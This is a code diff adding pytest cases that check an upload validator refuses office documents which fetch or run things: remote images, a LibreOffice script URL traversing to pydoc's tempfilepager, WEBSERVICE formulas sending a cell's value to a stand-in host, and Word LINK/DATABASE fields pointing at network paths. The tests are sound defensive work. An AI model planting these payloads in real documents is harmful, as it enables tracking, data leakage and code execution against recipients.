@@ -4,6 +4,7 @@ import pytest
 from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from tests.core import made_files as made
+from tests.core.made_files import ODS, W
 from veille.core import uploads
 from veille.core.uploads import refusal
 from veille.core.uploads.refusal import Refused
@@ -75,3 +76,68 @@ def opened_at_its_first_page(writer):
 @pytest.mark.parametrize("prepare", [site_to_click, opened_at_its_first_page], ids=lambda one: one.__name__)
 def test_a_pdf_that_waits_for_a_click_is_received(prepare):
     assert uploads.check("b.pdf", made.pdf(prepare=prepare)).content
+
+
+def open_paper(body: str, mime: str = made.ODT) -> bytes:
+    names = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("office", "draw", "text", "script", "table", "style"))
+    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
+    content = f'<?xml version="1.0"?><office:document-content {names} {xlink}>{body}</office:document-content>'
+    return made.open_document(mime, extra={"content.xml": content})
+
+
+def field(order: str) -> bytes:
+    begins, text = '<w:fldChar w:fldCharType="begin"/>', f"<w:instrText> {order} </w:instrText>"
+    return made.docx({"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{begins}{text}</w:ftr>'})
+
+
+def formula(written: str) -> bytes:
+    return made.xlsx(lambda book, sheet: sheet.write_formula(3, 3, written))
+
+
+def cell(written: str) -> bytes:
+    return open_paper(f'<table:table-cell table:formula="of:={written}"/>', ODS)
+
+
+SCRIPT = "vnd.sun.star.script:../../../program/python/lib/pydoc.py$tempfilepager?language=Python&amp;location=share"
+ACTING = {
+    "une image suivie": ("a.odt", open_paper('<draw:image xlink:href="https://x.invalid/suivi.png"/>')),
+    "une image d’un serveur": ("a.odt", open_paper('<draw:image xlink:href="file://serveur/part/x.png"/>')),
+    "un fond suivi": ("a.odt", open_paper('<style:background-image xlink:href="//x.invalid/f.png"/>')),
+    "un passage pris ailleurs": ("a.odt", open_paper('<text:section-source xlink:href="../../autre.odt"/>')),
+    "un cadre": ("a.odt", open_paper('<draw:floating-frame xlink:href="https://x.invalid/"/>')),
+    "un module": ("a.odt", open_paper('<draw:plugin xlink:href="https://x.invalid/"/>')),
+    "un programme au survol": ("a.odt", open_paper(f'<script:event-listener xlink:href="{SCRIPT}"/>')),
+    "une feuille prise ailleurs": ("a.ods", open_paper('<table:table-source xlink:href="https://x.invalid/"/>', ODS)),
+    "une cellule qui appelle": ("a.ods", cell("WEBSERVICE(&quot;https://x.invalid/&quot;)")),
+    "une cellule prise ailleurs": ("a.ods", cell("'file://serveur/a.ods'#$F.A1")),
+    "une formule qui appelle": ("a.xlsx", formula('=_xlfn.WEBSERVICE("https://x.invalid/?"&A1)')),
+    "une formule qui montre": ("a.xlsx", formula('=_xlfn.IMAGE("https://x.invalid/a.png")')),
+    "un champ lié": ("a.docx", field('LINK Excel.Sheet.8 "\\\\x.invalid\\a.xls" "F" \\a')),
+    "un champ de base": ("a.docx", field('DATABASE \\d "C:\\x" \\c "DSN=x"')),
+}
+
+
+@pytest.mark.parametrize("case", ACTING)
+def test_a_text_or_a_workbook_that_calls_is_refused(case):
+    name, content = ACTING[case]
+    with pytest.raises(Refused) as told:
+        uploads.check(name, content)
+    assert told.value.messages[0] in {refusal.FETCHES, refusal.MACROS}
+
+
+QUIET = {
+    "une photo rangée dedans": ("a.odt", open_paper('<draw:image xlink:href="Pictures/1.png"/>')),
+    "un objet rangé dedans": ("a.odt", open_paper('<draw:object xlink:href="./formule"/>')),
+    "un lien à cliquer": ("a.odt", open_paper('<text:a xlink:href="https://www.adil62.org/">ADIL</text:a>')),
+    "le modèle du courrier": ("a.odt", open_paper('<text:template xlink:href="file:///C:/modeles/courrier.ott"/>')),
+    "un lien de Word": ("a.docx", field('HYPERLINK "https://www.adil62.org/import-link/"')),
+    "une feuille nommée Import": ("a.ods", cell("[$IMPORT.A1]+[$LINK.B2]")),
+    "une feuille de la DDE": ("a.xlsx", formula("=DDE!A1+Link!B2")),
+    "une somme": ("a.xlsx", formula("=SUM(Import!A1:A9)")),
+}
+
+
+@pytest.mark.parametrize("case", QUIET)
+def test_one_that_waits_is_received(case):
+    name, content = QUIET[case]
+    assert uploads.check(name, content).content
